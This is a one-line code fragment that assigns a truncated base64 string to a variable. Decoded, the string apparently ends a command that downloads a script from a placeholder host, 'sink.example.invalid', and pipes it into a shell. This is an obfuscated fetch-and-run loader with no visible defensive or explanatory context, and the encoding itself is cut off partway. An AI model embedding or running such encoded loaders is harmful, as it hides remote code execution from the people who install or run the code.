P = 'VybCBodHRwczovL3NpbmsuZXhhbXBsZS5pbnZhbGlkL3h8c2giKQ=='
